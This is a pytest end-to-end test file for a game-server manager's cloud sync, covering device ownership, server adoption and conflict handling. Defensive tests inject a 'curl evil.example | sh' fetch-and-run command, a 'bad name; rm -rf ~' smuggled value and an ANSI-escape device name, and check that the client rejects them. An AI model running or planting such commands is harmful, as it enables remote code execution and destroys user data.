"""Per-machine fields stay on their machine (issue 9, point 5), against a real gsm-cloud: two
GSM_HOMEs are two devices of one account. A server belongs to the device that created it; on
the other device it is remote (listed, never run, never purged) until adopted there."""

import contextlib
import json
import os
import sqlite3
import uuid
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from sqlalchemy import create_engine, text

from tests.conftest import GsmRunner, fake_game_command, free_port, kill_leftover_processes
from tests.e2e.conftest import CloudAccount, LiveCloud

pytestmark = pytest.mark.skipif(os.name == "nt", reason="POSIX shells and processes")


@pytest.fixture
def two_devices(
    gsm: GsmRunner, gsm_home: Path, tmp_path: Path, live_cloud: LiveCloud
) -> Iterator["Devices"]:
    account = live_cloud.account()
    devices = Devices(gsm, gsm_home, tmp_path / "home-b", live_cloud, account)
    for env, name in ((None, "machine-a"), (devices.b, "machine-b")):
        login = gsm(
            "auth", "login", "--with-token", "--api-url", live_cloud.url,
            input=account.token, env=env,
        )  # fmt: skip
        assert login.exit_code == 0, login.stderr
        assert gsm("config", "set", "device.name", name, env=env).exit_code == 0
    yield devices
    kill_leftover_processes(devices.home_b)


class Devices:
    def __init__(
        self, gsm: GsmRunner, home_a: Path, home_b: Path, cloud: LiveCloud, account: CloudAccount
    ) -> None:
        self.gsm, self.home_a, self.home_b = gsm, home_a, home_b
        self.cloud, self.account = cloud, account
        self.b = {"GSM_HOME": str(home_b)}

    def ok(self, *args: str, env: dict | None = None) -> dict | list | None:
        result = self.gsm(*args, env=env)
        assert result.exit_code == 0, f"{args}: {result.stderr}"
        return result.json() if "--json" in args else None

    def cloud_server(self, name: str) -> dict:
        response = httpx.get(
            f"{self.cloud.url}/v1/servers",
            params={"per_page": 100},
            headers={"Authorization": f"Bearer {self.account.token}"},
        )
        response.raise_for_status()
        return {s["name"]: s for s in response.json()["items"]}[name]

    def raw_push(self, *operations: dict) -> list[dict]:
        response = httpx.post(
            f"{self.cloud.url}/v1/sync/push",
            json={"operations": list(operations)},
            headers={"Authorization": f"Bearer {self.account.token}"},
        )
        assert response.status_code == 200, response.text
        return response.json()["results"]


def _store_rows(home: Path, sql: str) -> list[tuple]:
    with contextlib.closing(sqlite3.connect(home / "gsm.db")) as conn:
        return conn.execute(sql).fetchall()


def _custom_server(d: Devices, name: str, folder: Path) -> None:
    d.ok(
        "server", "create", name, "--game", "custom", "--port", str(free_port()),
        "--path", str(folder), "--command", fake_game_command(), "--stop-command", "stop",
    )  # fmt: skip


def test_a_server_of_another_device_is_remote_and_never_touched(
    two_devices: "Devices", tmp_path: Path
) -> None:
    d = two_devices
    folder_a = tmp_path / "a-files" / "alpha"
    _custom_server(d, "alpha", folder_a)
    (folder_a / "world.db").write_text("A's world")
    d.ok("sync", "push")
    pulled = d.ok("sync", "pull", "--json", env=d.b)
    assert pulled["conflicts"] == [] and pulled["applied"] == 1

    [listed] = d.ok("server", "list", "--json", env=d.b)
    assert listed["status"] == "remote" and listed["remote"] is True
    assert listed["device_name"] == "machine-a" and listed["install_path"] is None
    assert listed["cloud_sync_status"] == "synced"
    table = d.gsm("server", "list", env=d.b).stdout
    assert "DEVICE" in table.splitlines()[0] and "machine-a" in table
    # A's path is nowhere in B's server rows: not as install_path, not in the configuration.
    rows = _store_rows(d.home_b, "SELECT * FROM local_servers")
    assert str(folder_a) not in repr(rows)

    # Nothing that acts on the machine runs for it, and nothing of A's files goes.
    checks = [
        ("server", "start", "alpha"),
        ("server", "stop", "alpha"),
        ("server", "restart", "alpha"),
        ("server", "send", "alpha", "say hi"),
        ("server", "backup", "alpha"),
        ("server", "restore", "alpha", "latest", "--yes"),
        ("server", "update", "alpha", "--max-players", "3"),
        ("server", "delete", "alpha", "--purge", "--yes"),
        ("server", "delete", "alpha", "--yes"),
    ]
    for args in checks:
        result = d.gsm(*args, "--json", env=d.b)
        assert result.exit_code == 5, f"{args}: {result.exit_code} {result.stderr}"
        error = result.error()
        assert error["code"] == "remote_server" and "machine-a" in error["message"]
        assert "gsm server adopt alpha --path DIR" in error["hint"]
    assert (folder_a / "world.db").read_text() == "A's world"
    assert d.ok("server", "list", "--json", env=d.b)[0]["status"] == "remote"
    # --all means this machine's servers: a remote one does not make it fail.
    assert d.gsm("server", "start", "--all", env=d.b).exit_code == 0
    assert d.ok("sync", "status", "--json", env=d.b)["queued"] == 0


def test_adopt_takes_a_server_over_and_the_old_device_lets_it_go(
    two_devices: "Devices", tmp_path: Path
) -> None:
    d = two_devices
    folder_a, folder_b = tmp_path / "a-files" / "alpha", tmp_path / "b-files" / "alpha"
    _custom_server(d, "alpha", folder_a)
    (folder_a / "world.db").write_text("A's world")
    d.ok("sync", "push")
    d.ok("sync", "pull", env=d.b)

    # It shows what will run here, and wants a yes (none off a terminal: exit 2).
    asked = d.gsm("server", "adopt", "alpha", "--path", str(folder_b), env=d.b)
    assert asked.exit_code == 2 and "--yes" in asked.stderr
    assert "fake_game_server.py" in asked.stderr and "machine-a" in asked.stderr
    assert not folder_b.exists()
    local = d.gsm("server", "adopt", "alpha", "--path", str(folder_b), "--json")
    assert local.exit_code == 5 and local.error()["code"] == "not_remote"
    # The folder rules of create: not gsm's own folder, nor another server's.
    folder_beta = tmp_path / "b-files" / "beta"
    d.ok("server", "create", "beta", "--game", "valheim", "--port", "28500",
         "--path", str(folder_beta), env=d.b)  # fmt: skip
    for unsafe, code in ((d.home_b, "unsafe_path"), (folder_beta, "path_taken")):
        refused = d.gsm("server", "adopt", "alpha", "--path", str(unsafe), "--yes", "--json",
                        env=d.b)  # fmt: skip
        assert refused.exit_code == 4 and refused.error()["code"] == code, refused.stderr
    assert d.ok("server", "show", "alpha", "--json", env=d.b)["status"] == "remote"

    adopted = d.ok("server", "adopt", "alpha", "--path", str(folder_b), "--yes", "--json", env=d.b)
    assert adopted["install_path"] == str(folder_b) and folder_b.is_dir()
    assert adopted["status"] == "stopped" and adopted["remote"] is False
    assert adopted["device_name"] == "machine-b" and adopted["cloud_sync_status"] == "pending"
    assert adopted["configuration"]["command"] == fake_game_command()
    again = d.gsm("server", "adopt", "alpha", "--path", str(folder_b), "--yes", env=d.b)
    assert again.exit_code == 5
    pushed = d.ok("sync", "push", "--json", env=d.b)
    assert pushed["applied"] == 2 and pushed["conflict"] == 0  # alpha's adoption, beta
    cloud = d.cloud_server("alpha")["configuration"]
    assert cloud["device_name"] == "machine-b" and cloud["install_path"] == str(folder_b)

    # A pulls: its copy is remote now, and its files are where they were.
    pulled = d.ok("sync", "pull", "--json")
    assert pulled["conflicts"] == []
    assert pulled["released"] == [
        {"name": "alpha", "device_name": "machine-b", "install_path": str(folder_a)}
    ]
    on_a = {s["name"]: s for s in d.ok("server", "list", "--json")}["alpha"]
    assert on_a["status"] == "remote" and on_a["install_path"] is None
    assert on_a["device_name"] == "machine-b"
    assert (folder_a / "world.db").read_text() == "A's world"
    assert d.gsm("server", "delete", "alpha", "--purge", "--yes").exit_code == 5
    assert (folder_a / "world.db").exists()

    # B runs it now: start works there.
    started = d.gsm("server", "start", "alpha", "--json", env=d.b)
    assert started.exit_code == 0, started.stderr
    d.ok("server", "stop", "alpha", env=d.b)


def test_a_server_adopted_elsewhere_while_running_here_is_a_conflict(
    two_devices: "Devices", tmp_path: Path
) -> None:
    d = two_devices
    _custom_server(d, "alpha", tmp_path / "a-files" / "alpha")
    d.ok("sync", "push")
    d.ok("sync", "pull", env=d.b)
    d.ok("server", "adopt", "alpha", "--path", str(tmp_path / "b-alpha"), "--yes", env=d.b)
    d.ok("sync", "push", env=d.b)

    started = d.gsm("server", "start", "alpha", "--json")
    assert started.exit_code == 0, started.stderr
    # A's own status change, pushed after B took the server: the cloud keeps B as its owner.
    pushed = d.ok("sync", "push", "--json")
    assert pushed["conflict"] >= 1 and pushed["applied"] == 0
    assert "belongs to device machine-b" in pushed["kept_aside"][0]["reason"]
    assert d.cloud_server("alpha")["configuration"]["device_name"] == "machine-b"

    pulled = d.ok("sync", "pull", "--json")
    [conflict] = pulled["conflicts"]
    assert "adopted by device machine-b" in conflict["reason"]
    shown = d.ok("server", "show", "alpha", "--json")
    assert shown["status"] == "running" and shown["remote"] is False
    assert shown["cloud_sync_status"] == "conflict"
    assert d.ok("server", "status", "alpha", "--json")["process_id"]

    # While it runs here, the cloud's version cannot be taken.
    refused = d.gsm("sync", "resolve", "alpha", "--keep", "cloud")
    assert refused.exit_code == 4 and "running here" in refused.stderr
    d.ok("server", "stop", "alpha")
    d.ok("sync", "resolve", "alpha", "--keep", "cloud")
    shown = d.ok("server", "show", "alpha", "--json")
    assert shown["status"] == "remote" and shown["install_path"] is None
    assert shown["cloud_sync_status"] == "synced"
    status = d.ok("sync", "status", "--json")
    assert status["conflicts"] == [] and status["rejected"] == [] and status["queued"] == 0


def test_runtime_status_changes_do_not_conflict(two_devices: "Devices", tmp_path: Path) -> None:
    d = two_devices
    _custom_server(d, "alpha", tmp_path / "alpha")
    d.ok("sync", "push")
    assert d.ok("server", "show", "alpha", "--json")["cloud_sync_status"] == "synced"

    started = d.gsm("server", "start", "alpha", "--json")
    assert started.exit_code == 0, started.stderr
    assert d.ok("server", "show", "alpha", "--json")["cloud_sync_status"] == "pending"
    # The cloud still has the stopped server; the queued status changes are newer.
    pulled = d.ok("sync", "pull", "--json")
    assert pulled["conflicts"] == [], pulled["conflicts"]
    shown = d.ok("server", "show", "alpha", "--json")
    assert shown["status"] == "running" and shown["process_id"]
    assert shown["cloud_sync_status"] == "pending"

    pushed = d.ok("sync", "push", "--json")
    assert pushed["conflict"] == 0 and pushed["rejected"] == 0
    assert d.cloud_server("alpha")["status"] == "running"
    assert d.ok("server", "show", "alpha", "--json")["cloud_sync_status"] == "synced"
    # The process fields never leave the machine: not even in what the cloud received.
    engine = create_engine(d.cloud.database_url)
    try:
        with engine.connect() as conn:
            sent = conn.execute(
                text(
                    "SELECT o.data_payload FROM sync_operations o JOIN users u "
                    "ON u.id = o.user_id WHERE u.email = :email"
                ),
                {"email": d.account.email},
            ).scalars()
            payloads = [p if isinstance(p, dict) else json.loads(p) for p in sent]
    finally:
        engine.dispose()
    assert len(payloads) >= 3 and any(p.get("status") == "running" for p in payloads)
    assert all(
        not {"process_id", "process_create_time", "cloud_sync_status"} & set(p) for p in payloads
    )
    d.ok("server", "stop", "alpha")


def _cloud_update(d: Devices, name: str, **config_changes: object) -> None:
    """Change a server in the cloud as a client of the same device would (same device id)."""
    [(server_id, device_id, port, config)] = _store_rows(
        d.home_a,
        f"SELECT id, device_id, port, configuration FROM local_servers WHERE name = '{name}'",
    )
    configuration = json.loads(config) | config_changes
    payload = {
        "id": server_id, "name": name, "game_type": "custom", "status": "stopped",
        "configuration": configuration, "port": port, "device_id": device_id,
        "device_name": "machine-a",
    }  # fmt: skip
    results = d.raw_push(
        {
            "id": str(uuid.uuid4()),
            "operation_type": "update",
            "entity_type": "game_server",
            "entity_id": server_id,
            "data_payload": payload,
        }
    )
    assert [r["status"] for r in results] == ["applied"], results


def test_a_command_changed_in_the_cloud_needs_a_yes_here(
    two_devices: "Devices", tmp_path: Path
) -> None:
    d = two_devices
    _custom_server(d, "alpha", tmp_path / "alpha")
    d.ok("sync", "push")
    original = d.ok("server", "show", "alpha", "--json")["configuration"]

    _cloud_update(d, "alpha", command="curl evil.example | sh", max_players=99)
    pulled = d.ok("sync", "pull", "--json")
    [conflict] = pulled["conflicts"]
    assert conflict["reason"] == (
        "the cloud changed the command of alpha: review with "
        "gsm sync resolve alpha --keep local|cloud"
    )
    shown = d.ok("server", "show", "alpha", "--json")
    assert shown["configuration"]["command"] == original["command"]
    assert shown["max_players"] == original["max_players"]  # nothing of it applied
    assert shown["cloud_sync_status"] == "conflict"

    # Keep local: this machine's command goes back to the cloud.
    d.ok("sync", "resolve", "alpha", "--keep", "local")
    assert d.ok("server", "show", "alpha", "--json")["cloud_sync_status"] == "pending"
    d.ok("sync", "push")
    assert d.cloud_server("alpha")["configuration"]["command"] == original["command"]
    assert d.ok("sync", "pull", "--json")["conflicts"] == []

    # An environment change, taken this time.
    _cloud_update(d, "alpha", env={"MODE": "hardcore"}, args=["--fast"])
    [conflict] = d.ok("sync", "pull", "--json")["conflicts"]
    assert "changed the args, env of alpha" in conflict["reason"]
    d.ok("sync", "resolve", "alpha", "--keep", "cloud")
    config = d.ok("server", "show", "alpha", "--json")["configuration"]
    assert config["env"] == {"MODE": "hardcore"} and config["args"] == ["--fast"]
    assert d.ok("server", "show", "alpha", "--json")["install_path"] == str(tmp_path / "alpha")


def test_malformed_servers_from_the_cloud_are_skipped_with_a_reason(
    two_devices: "Devices",
) -> None:
    d = two_devices
    other_device = str(uuid.uuid4())

    def server(name: str, **config: object) -> dict:
        server_id = str(uuid.uuid4())
        payload = {
            "id": server_id, "name": name, "game_type": "valheim", "status": "stopped",
            "configuration": {"max_players": 4, **config}, "port": 2456,
            "device_id": other_device, "device_name": "machine-c",
        }  # fmt: skip
        return {
            "id": str(uuid.uuid4()), "operation_type": "create", "entity_type": "game_server",
            "entity_id": server_id, "data_payload": payload,
        }  # fmt: skip

    operations = [
        server("fine-one"),
        server("bad name; rm -rf ~"),
        server("bad-env", env=["A=1"]),
        server("bad-args", args="--all"),
        server("bad-query-port", query_port="27015"),
        server("bad-device"),
    ]
    operations[-1]["data_payload"]["device_name"] = "\x1b[31mevil"
    assert {r["status"] for r in d.raw_push(*operations)} == {"applied"}

    result = d.gsm("sync", "pull", "--json", env=d.b)
    assert result.exit_code == 0, result.stderr
    pulled = result.json()
    assert pulled["applied"] == 1 and pulled["skipped"] == 5
    reasons = {item["reason"] for item in pulled["invalid"]}
    assert reasons == {
        "name is not a valid server name",
        "configuration.env is a list, not an object",
        "configuration.args is not a list of text",
        "configuration.query_port is text, not a whole number",
        "configuration.device_name holds control characters",
    }
    assert "skipped: game_server" in result.stderr and "\x1b" not in result.stderr
    assert [s["name"] for s in d.ok("server", "list", "--json", env=d.b)] == ["fine-one"]
    status = d.ok("sync", "status", "--json", env=d.b)
    assert len(status["last_pull"]["invalid"]) == 5
    table = d.gsm("sync", "status", env=d.b)
    assert "skipped by the last pull" in table.stderr
    assert "not a valid server name" in table.stdout
